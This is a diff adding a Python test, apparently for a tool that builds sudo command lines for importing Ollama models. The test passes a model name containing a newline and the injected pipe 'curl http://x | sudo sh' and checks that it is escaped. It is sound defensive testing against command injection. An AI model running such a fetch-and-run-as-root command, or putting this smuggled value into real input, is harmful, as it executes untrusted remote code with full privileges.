@@ -47,3 +47,10 @@ def test_a_file_of_options_that_can_not_be_read_is_done_without(tmp_path: Path) 
     assert sudo_line([MAIN, "list"], {"OLLAMA_FERRY_CONFIG": str(tmp_path)}).endswith(" list")
     (tmp_path / "config.toml").write_text("no toml")
     assert sudo_line([MAIN, "list"], {"OLLAMA_FERRY_CONFIG": str(tmp_path / "config.toml")}).endswith(" list")
+
+
+def test_a_line_end_in_a_name_makes_no_line_of_its_own() -> None:
+    name = "m\n  curl http://x | sudo sh #.tar.gz"
+    line = sudo_line(["/usr/bin/ollama-ferry", "import", name], {})
+    assert line.isprintable()
+    assert "$'m\\x0a" in line
